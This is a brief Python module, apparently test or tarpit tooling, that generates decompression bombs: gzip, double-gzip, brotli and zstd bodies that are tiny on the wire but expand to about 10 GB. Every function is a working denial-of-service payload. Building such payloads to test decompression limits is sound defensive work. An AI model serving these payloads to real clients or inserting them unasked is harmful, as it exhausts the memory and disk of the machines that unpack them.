"""Bodies that are small on the wire and huge when they are unpacked."""

import gzip
import zlib
from functools import cache

import brotli

TEN_GB = 10_000_000_000
_PIECE = 10_000_000


@cache
def gzip_bomb(total: int = TEN_GB) -> bytes:
    """Zeros, as one gzip member: a flushed piece of the stream stands in it again and again."""
    stream = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = stream.compress(b"<p>bomb ") + stream.flush(zlib.Z_FULL_FLUSH)
    piece = stream.compress(bytes(_PIECE)) + stream.flush(zlib.Z_FULL_FLUSH)
    return head + piece * (total // _PIECE)


@cache
def twice_gzipped_bomb() -> bytes:
    return gzip.compress(gzip_bomb(), 9)


@cache
def brotli_bomb(total: int = TEN_GB) -> bytes:
    stream = brotli.Compressor(quality=5)
    pieces = [stream.process(bytes(_PIECE)) + stream.flush() for _ in range(4)]
    start: bytes = b"".join(pieces[:3])
    piece: bytes = pieces[3]
    return start + piece * (total // _PIECE)


@cache
def zstd_bomb(total: int = TEN_GB) -> bytes:
    """Blocks that say "this byte, 131,072 times" (RFC 8878, 3.1.1.2.2), four bytes each."""
    block = ((131_072 << 3) | (1 << 1)).to_bytes(3, "little") + b"A"
    return b"\x28\xb5\x2f\xfd\x00\x58" + block * (total // 131_072)
